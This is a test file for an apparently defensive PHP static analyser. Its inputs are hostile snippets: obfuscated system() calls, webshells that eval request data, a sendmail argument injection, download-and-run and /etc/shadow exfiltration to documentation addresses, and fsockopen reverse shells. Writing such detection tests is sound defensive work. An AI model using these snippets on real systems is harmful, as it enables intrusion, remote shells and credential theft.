import { beforeAll, describe, expect, it } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import type { Reading } from '../../language.ts';
import { known, render, textOf } from '../../value.ts';
import { php } from './php.ts';

beforeAll(async () => {
  useGrammarFiles();
  await php.prepare();
});

function read(text: string, files: Readonly<Record<string, string>> = {}): Reading {
  return php.read({
    text,
    args: [known('/srv/www/x.php')],
    env: new Map(),
    cwd: '/srv/www',
    readFile: (path) => files[path],
    budget: { steps: 1_000_000, decodedBytes: 10_000_000, commands: 1_000 },
  });
}

/** What shells were handed, and what stages of its own were found. */
function ran(text: string): readonly string[] {
  const reading = read(text);
  const lines = reading.commands.map(({ argv }) =>
    argv
      .slice(textOf(argv[1] ?? []) === '-c' ? 2 : 0)
      .map(render)
      .join(' '),
  );
  return [...lines, ...reading.nested.filter(({ how }) => how === 'eval').map((nested) => nested.text)];
}

const hidden = "sys'.'tem";

describe('PHP: ways to run a command', () => {
  it.each<[string, string]>([
    ['system', 'system("id");'],
    ['exec with its output', 'exec("id", $lines, $code);'],
    ['shell_exec', '$x = shell_exec("id");'],
    ['passthru', 'passthru("id");'],
    ['backticks', '$x = `id`;'],
    ['popen', '$p = popen("id", "r");'],
    ['proc_open', 'proc_open("id", [["pipe", "r"]], $pipes);'],
    ['without case', 'SyStEm("id");'],
    ['global namespace', 'namespace A; \\system("id");'],
    ['silenced, in a condition', 'if (@system("id")) { echo 1; }'],
    ['a short tag', '<? system("id"); ?>'],
    ['echo tag in HTML', '<h1>a</h1><?= system("id") ?><p>'],
    ['a script tag', '<script language="php">system("id");</script>'],
    ['text before the tag', 'GIF89a;<?php system("id");'],
    ['alternative syntax', '<?php if ($x): ?> <b>x</b> <?php else: system("id"); endif;'],
    ['comments between', 'system/* a */(/* b */"id"/**/);'],
    ['a function that nobody calls', 'function f() { system("id"); }'],
    ['a method that nobody calls', 'class A { private $c = "id"; function __destruct() { system($this->c); } }'],
    ['a closure', '$f = function () { system("id"); };'],
    ['an arrow function', '$f = fn() => system("id");'],
    ['inside try', 'try { f(); } catch (Exception $e) { system("id"); } finally { g(); }'],
    ['a foreign function', 'FFI::cdef("int system(const char *c);")->system("id");'],
  ])('%s', (_title, text) => {
    expect(ran(text)).toContain('id');
  });

  it('runs a program by a list', () => {
    expect(read('pcntl_exec("/bin/ls", ["-l", "/"]);').commands[0]?.argv).toEqual([['/bin/ls'], ['-l'], ['/']]);
    expect(read('proc_open(["ls", "-l"], [], $p);').commands[0]?.argv).toEqual([['ls'], ['-l']]);
  });

  it('hands the fifth argument of mail to sendmail', () => {
    expect(ran('mail($to, $s, $m, $h, "-OQueueDirectory=/tmp -X/srv/www/x.php");')[0]).toContain('-X/srv/www/x.php');
    expect(ran('mail($to, $s, $m, $h, "-fnoreply@site.example");')).toEqual([]);
  });
});

describe('PHP: disguises', () => {
  it.each<[string, string]>([
    ['a variable function', `$f = '${hidden}'; $f('id');`],
    ['a text that is called', `('${hidden}')('id');`],
    ['a variable variable', `$a = 'f'; $f = '${hidden}'; $$a('id');`],
    ['a computed variable', `$ab = 'system'; \${'a' . 'b'}('id');`],
    ['$GLOBALS', `$f = 'system'; function g() { $GLOBALS['f']('id'); } g();`],
    ['an entry of an array', `$a = ['x' => 'system']; $a['x']('id');`],
    ['strrev', `$f = strrev('metsys'); $f('id');`],
    ['rot13', `$f = str_rot13('flfgrz'); $f('id');`],
    ['base64', `$f = base64_decode('c3lzdGVt'); $f('id');`],
    ['hex escapes', '$f = "\\x73\\x79\\163\\x74em"; $f("id");'],
    ['unicode escapes', '$f = "\\u{73}ystem"; $f("id");'],
    ['chr', '$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f("id");'],
    ['chr in a loop', '$f = ""; foreach ([115,121,115,116,101,109] as $c) $f .= chr($c); $f("id");'],
    [
      'a counting loop',
      '$k = "s_y_s_t_e_m"; $f = ""; for ($i = 0; $i < strlen($k); $i += 2) { $f .= $k[$i]; } $f("id");',
    ],
    ['array_map chr', '$f = implode("", array_map("chr", [115,121,115,116,101,109])); $f("id");'],
    ['pack', '$f = pack("H*", "73797374656d"); $f("id");'],
    ['hex2bin', '$f = hex2bin("73797374656d"); $f("id");'],
    ['urldecode', '$f = urldecode("%73%79%73%74%65%6d"); $f("id");'],
    ['implode', `$f = implode(['sys', 'tem']); $f('id');`],
    ['explode and join in another order', `$p = explode('.', 'tem.sys'); $f = $p[1] . $p[0]; $f('id');`],
    ['array_reverse', `$f = join('', array_reverse(['tem', 'sys'])); $f('id');`],
    ['str_replace', `$f = str_replace('#', '', 's#y#s#t#e#m'); $f('id');`],
    ['str_replace with arrays', `$f = str_replace(['1', '2'], ['s', 'y'], '121tem'); $f('id');`],
    ['preg_replace', `$f = preg_replace('/[0-9]+/', '', 's1y22s3tem'); $f('id');`],
    ['strtr', `$f = strtr('xyxtem', 'x', 's'); $f('id');`],
    ['strtr with pairs', `$f = strtr('AB', ['A' => 'sys', 'B' => 'tem']); $f('id');`],
    ['substr', `$f = substr('xsystemx', 1, -1); $f('id');`],
    ['substr_replace', `$f = substr_replace('s__tem', 'ys', 1, 2); $f('id');`],
    ['sprintf', `$f = sprintf('%s%c%stem', 's', 121, 's'); $f('id');`],
    ['xor of texts', '$f = "3" ^ "@"; $f .= "ystem"; $f("id");'],
    ['a bitwise not', '$f = ~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92"; $f("id");'],
    ['old curly indexes', '$k = "abemsty"; $f = $k{4}.$k{6}.$k{4}.$k{5}.$k{2}.$k{3}; $f("id");'],
    ['letters counted up', '$s = "a"; for ($i = 0; $i < 18; $i++) $s++; $f = $s . "ystem"; $f("id");'],
    [
      'letters of Array',
      '$_ = []; $_ = @"$_"; $_ = $_["!"=="@"]; $f = "s" . strtolower($_ === "A" ? "YSTEM" : ""); $f("id");',
    ],
    ['base_convert', '$f = base_convert("1751504350", 10, 36); $f("id");'],
    ['a constant', `define('F', '${hidden}'); $f = F; $f('id');`],
    ['a class constant', `class A { const F = 'system'; static function g() { $f = self::F; $f('id'); } } A::g();`],
    ['a static property', `class A { static $f = 'system'; } $f = A::$f; $f('id');`],
    ['a heredoc', '$f = <<<X\nsystem\nX;\n$f("id");'],
    ['a nowdoc that is indented', '$f = <<<\'X\'\n  system\n  X;\n$f("id");'],
    ['call_user_func', `call_user_func('${hidden}', 'id');`],
    ['call_user_func_array', `call_user_func_array('system', ['id']);`],
    ['array_map', `array_map('system', ['id']);`],
    ['array_filter', `array_filter(['id'], 'system');`],
    ['array_walk', `$a = ['id']; array_walk($a, 'system');`],
    ['usort', `$a = ['id', 'x']; usort($a, 'system');`],
    ['register_shutdown_function', `register_shutdown_function('system', 'id');`],
    ['ob_start', `ob_start('system'); echo 'id'; ob_end_flush();`],
    ['filter_var', `filter_var('id', FILTER_CALLBACK, ['options' => 'system']);`],
    ['reflection', `(new ReflectionFunction('system'))->invoke('id');`],
    ['reflection with arguments', `$r = new ReflectionFunction('system'); $r->invokeArgs(['id']);`],
    ['Closure::fromCallable', `Closure::fromCallable('system')('id');`],
    ['create_function', `$f = create_function('$a', 'sys' . 'tem($a);'); $f('id');`],
    ['a static method by name', `class A { static function run($c) { system($c); } } call_user_func('A::run', 'id');`],
    ['a method by array', `class A { function run($c) { system($c); } } call_user_func([new A, 'run'], 'id');`],
    ['an anonymous class', `(new class { function __construct() { system('id'); } });`],
    ['a magic method', `class A { function __invoke($c) { system($c); } } $a = new A; $a('id');`],
    ['use function as', `use function system as harmless; harmless('id');`],
    ['extract', `extract(['f' => 'system']); $f('id');`],
    ['parse_str', `parse_str('f=system', $o); $o['f']('id');`],
    ['compact and list', `[$f, $c] = ['system', 'id']; $f($c);`],
    ['a keyed pattern', `['a' => $f] = ['a' => 'system']; $f('id');`],
    ['null coalescing', `$f = $unset ?? 'system'; $f('id');`],
    ['goto', `goto b; a: $f($c); goto end; b: $f = 'system'; goto c; c: $c = 'id'; goto a; end:`],
    ['match', `$f = match (true) { default => 'system' }; $f('id');`],
    ['a nested ternary', `$f = $x ? ($y ? 'a' : 'system') : 'b'; $f('id');`],
    ['spread', `$a = ['id']; system(...$a);`],
    ['a value set in eval', `eval('$f = "system";'); $f('id');`],
    ['a value that eval returns', `$f = eval('return "system";'); $f('id');`],
    ['rand of one', `$f = ['system'][0]; $f('id');`],
    ['data after the code', `<?php system('id'); __halt_compiler(); "'"' garbage`],
    [
      'a very long chain',
      `$f = ${Array.from('system', (letter) => `'${letter}'`).join('.')}${".''".repeat(3_000)}; $f('id');`,
    ],
  ])('%s', (_title, text) => {
    expect(ran(text)).toContain('id');
  });
});

describe('PHP: code in text', () => {
  it.each<[string, string, string[]]>([
    ['base64', `eval(base64_decode('${btoa('system("id");')}'));`, ['base64']],
    [
      'in two layers',
      `eval(str_rot13(base64_decode('${btoa('flfgrz("vq"); // nnnnnnnnnnnnnnnn')}')));`,
      ['base64', 'rot13'],
    ],
    ['assert', `assert(base64_decode('${btoa('system("id");')}'));`, ['base64']],
    ['preg_replace /e', `preg_replace('/.*/e', base64_decode('${btoa('system("id");')}'), 'x');`, ['base64']],
    ['create_function', `create_function('', base64_decode('${btoa('system("id");')}'));`, ['base64']],
    ['a data: address', `include 'data:text/plain;base64,${btoa('<?php system("id");')}';`, ['base64']],
  ])('%s', (_title, text, decoders) => {
    const [nested] = read(text).nested;
    expect(nested?.decoded.map((step) => step.decoder)).toEqual(decoders);
    expect(nested?.text).toMatch(/system\("id"\);/);
  });

  it('sets the variables that code in text mentions at its head', () => {
    const [nested] = read(`$f = 'system'; eval('$f("id");');`).nested;
    expect(nested?.text).toBe(`$f='system';$f("id");`);
    expect(ran(nested?.text ?? '')).toEqual(['id']);
  });

  it('does not take an assertion or a plain replacement for code', () => {
    expect(read('assert($x instanceof Y); preg_replace("/e/", $a, $b);').nested).toEqual([]);
  });
});

describe('PHP: what a request decides', () => {
  const from = (text: string): readonly string[] =>
    read(text).effects.flatMap((effect) =>
      effect.kind === 'run' && effect.from === 'request' ? [effect.interpreter ?? ''] : [],
    );

  it.each<[string, string, string]>([
    ['eval', 'eval($_POST["x"]);', 'php'],
    ['system', 'system($_GET["c"]);', 'sh'],
    ['through a variable', '$c = trim(urldecode($_REQUEST["c"])); echo `$c`;', 'sh'],
    ['a header', 'eval($_SERVER["HTTP_X_CODE"]);', 'php'],
    ['a cookie, decoded', 'eval(base64_decode($_COOKIE["x"]));', 'php'],
    ['the body', 'eval(file_get_contents("php://input"));', 'php'],
    ['an included body', 'include "php://input";', 'php'],
    ['an included name', 'include $_GET["p"];', 'php include'],
    ['assert', 'assert($_POST[1]);', 'php'],
    ['a function and its argument', '$_GET["a"]($_GET["b"]);', 'php'],
    ['call_user_func', 'call_user_func($_GET["a"], $_GET["b"]);', 'php'],
    ['array_map', 'array_map("assert", $_POST);', 'php'],
    ['keys and values', 'foreach ($_POST as $k => $v) $k($v);', 'php'],
    ['preg_replace /e', 'preg_replace("/.*/e", $_POST["x"], "x");', 'php'],
    ['a pattern whose middle is not known', 'preg_replace("/" . $x . "/e", $_POST["x"], "x");', 'php'],
    ['a pattern from the request', 'preg_replace($_GET["a"], $_GET["b"], "x");', 'php'],
    ['create_function', '$f = create_function("", $_POST["x"]); $f();', 'php'],
    ['extract', 'extract($_POST); eval($code);', 'php'],
    ['parse_str', 'parse_str($_SERVER["QUERY_STRING"]); system($cmd);', 'sh'],
    ['a computed name', '$n = "_" . "POST"; eval(${$n}["x"]);', 'php'],
    [
      'a property',
      'class A { public $x; function __destruct() { eval($this->x); } } $a = new A; $a->x = $_POST["x"];',
      'php',
    ],
    ['a parameter', 'function f($c) { system($c); } f($_GET["c"]);', 'sh'],
    ['a request spread out', 'usort(...$_GET);', 'php'],
    ['an earlier request', 'if (isset($_SESSION["c"])) eval($_SESSION["c"]);', 'php'],
    ['a match', 'preg_match("/x(.*)y/", $_POST["t"], $m); system($m[1]);', 'sh'],
    ['a code in text', `eval('$x = $_POST["c"];'); system($x);`, 'sh'],
  ])('%s', (_title, text, interpreter) => {
    expect(from(text)).toEqual([interpreter]);
  });

  it.each<[string, string]>([
    ['a quoted argument', 'system("ping -c1 " . escapeshellarg($_GET["host"]));'],
    ['a number', 'system("kill " . (int) $_GET["pid"]);'],
    ['a hash', 'system("grep " . md5($_GET["x"]));'],
    ['a method chosen by name', '$c = new $_GET["page"]; $this->{$_GET["do"]}();'],
    ['a file of a folder', 'include "pages/" . basename($_GET["p"]) . ".php";'],
    ['a file in a folder that is not known', 'include $folder . "/" . $_GET["p"];'],
    [
      'a pattern put between delimiters',
      '$d = $x ? "/" : "#"; preg_replace($d . $_POST["find"] . $d, $_POST["by"], $row);',
    ],
    ['an entry that the request chooses', '$f = $handlers[$_GET["do"]]; $f($_GET["x"]);'],
    ['what a function looks up', '$row = find_row($_GET["id"]); eval($row["code"]);'],
    ['what the server says', 'system("ls " . $_SERVER["DOCUMENT_ROOT"]);'],
  ])('not %s', (_title, text) => {
    expect(from(text)).toEqual([]);
  });
});

describe('PHP: files and network', () => {
  const kinds = (text: string): readonly string[] => read(text).effects.map((effect) => effect.kind);

  it.each<[string, string, object]>([
    [
      'file_put_contents',
      'file_put_contents("/etc/cron.d/x", "a");',
      { kind: 'write', path: ['/etc/cron.d/x'], content: ['a'] },
    ],
    [
      'appending',
      'file_put_contents("/root/.profile", "a", FILE_APPEND | LOCK_EX);',
      { kind: 'append', content: ['a'] },
    ],
    [
      'fopen and fwrite',
      '$f = fopen("/tmp/x", "a"); fwrite($f, "y"); fclose($f);',
      { kind: 'append', path: ['/tmp/x'] },
    ],
    ['chmod', 'chmod("/tmp/x", 0755);', { kind: 'chmod', mode: ['0755'] }],
    ['unlink', 'unlink("/tmp/x");', { kind: 'delete', path: ['/tmp/x'] }],
    [
      'an upload',
      'move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/www/s.php");',
      { kind: 'write', path: ['/srv/www/s.php'] },
    ],
    [
      'copy of an address',
      'copy("http://203.0.113.9/x", "/tmp/x");',
      { kind: 'fetch', url: ['http://203.0.113.9/x'], to: ['/tmp/x'] },
    ],
    [
      'file_get_contents',
      '$x = file_get_contents("http://203.0.113.9/x");',
      { kind: 'fetch', url: ['http://203.0.113.9/x'] },
    ],
    [
      'fopen of an address',
      '$h = fopen("http://203.0.113.9/x", "r"); eval(fread($h, 9));',
      { kind: 'run', from: 'fetched' },
    ],
    ['an included address', 'include "http://203.0.113.9/x.txt";', { kind: 'run', from: 'fetched' }],
    [
      'fsockopen',
      'fsockopen("tcp://192.0.2.4", 99);',
      { kind: 'connect', to: { host: ['192.0.2.4'], port: ['99'], protocol: 'tcp' } },
    ],
    [
      'stream_socket_client',
      'stream_socket_client("udp://192.0.2.4:99");',
      { kind: 'connect', to: { host: ['192.0.2.4'], port: ['99'], protocol: 'udp' } },
    ],
    [
      'stream_socket_server',
      'stream_socket_server("tcp://0.0.0.0:99");',
      { kind: 'listen', at: { host: ['0.0.0.0'], port: ['99'], protocol: 'tcp' } },
    ],
    [
      'putenv',
      'putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c");',
      { kind: 'preload', library: ['/tmp/x.so'], how: 'environment' },
    ],
    ['posix_kill', 'posix_kill(1, 9);', { kind: 'kill', pattern: ['1'] }],
    [
      'mail with a file',
      'mail("a@b.example", "s", file_get_contents("/etc/shadow"));',
      { kind: 'exfiltrate', via: 'mail' },
    ],
  ])('%s', (_title, text, expected) => {
    expect(read(text).effects).toContainEqual(expect.objectContaining(expected));
  });

  it.each<[string, string]>([
    ['curl_setopt', '$c = curl_init(); curl_setopt($c, CURLOPT_URL, "http://203.0.113.9/x"); eval(curl_exec($c));'],
    [
      'curl_setopt_array',
      '$c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => "http://203.0.113.9/x"]); eval(curl_exec($c));',
    ],
    ['curl_init', 'eval(curl_exec(curl_init("http://203.0.113.9/x")));'],
  ])('downloads and runs with %s', (_title, text) => {
    expect(read(text).effects).toMatchObject([
      { kind: 'fetch', url: ['http://203.0.113.9/x'] },
      { kind: 'run', from: 'fetched', fetched: 0 },
    ]);
  });

  it('posts a secret', () => {
    const text =
      '$c = curl_init("http://203.0.113.9/"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/etc/shadow")); curl_exec($c);';
    expect(read(text).effects).toMatchObject([{ kind: 'exfiltrate', to: ['http://203.0.113.9/'] }]);
  });

  it('reads files of the image', () => {
    expect(read('system(file_get_contents("/etc/c"));', { '/etc/c': 'id' }).commands[0]?.argv[2]).toEqual(['id']);
    expect(read('include __DIR__ . "/lib/a.php"; require_once "b.php";').loads.map((load) => load.path)).toEqual([
      '/srv/www/lib/a.php',
      '/srv/www/b.php',
    ]);
  });

  it('leaves ordinary code alone', () => {
    expect(kinds('$db = new PDO($dsn); $q = $db->prepare("select 1"); echo htmlspecialchars($_GET["q"]);')).toEqual([]);
  });
});

describe('PHP: shells on sockets', () => {
  it.each<[string, string]>([
    ['the next descriptor', '$s = fsockopen("192.0.2.4", 99); exec("/bin/sh -i <&3 >&3 2>&3");'],
    ['bash -c with it', '$s = fsockopen("192.0.2.4", 99); shell_exec("bash -c \'bash -i <&3 >&3\'");'],
    ['proc_open', '$s = fsockopen("192.0.2.4", 99); proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $p);'],
    ['proc_open with a list', '$s = fsockopen("192.0.2.4", 99); proc_open(["/bin/bash"], [$s, $s, $s], $p);'],
    ['a loop', '$s = fsockopen("192.0.2.4", 99); while (!feof($s)) { fwrite($s, shell_exec(fgets($s))); }'],
    [
      'pipes copied to and fro',
      `$sock = fsockopen("192.0.2.4", 99); $process = proc_open("/bin/sh -i", $spec, $pipes);
       while (1) { if (in_array($sock, $read)) { $input = fread($sock, 1400); fwrite($pipes[0], $input); } }`,
    ],
    [
      'socket_create',
      '$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, "192.0.2.4", 99); exec(socket_read($s, 9));',
    ],
    ['eval of what it receives', '$s = stream_socket_client("tcp://192.0.2.4:99"); eval(fgets($s));'],
  ])('%s', (_title, text) => {
    const [effect] = read(text).effects.filter(({ kind }) => kind === 'connect');
    expect(effect).toMatchObject({ to: { host: ['192.0.2.4'], port: ['99'] }, shell: {} });
  });

  it('waits for one', () => {
    const text =
      '$s = stream_socket_server("tcp://0.0.0.0:99"); $c = stream_socket_accept($s); proc_open("/bin/sh", [$c, $c, $c], $p);';
    expect(read(text).effects).toMatchObject([{ kind: 'listen', at: { port: ['99'] }, shell: { program: '/bin/sh' } }]);
  });
});
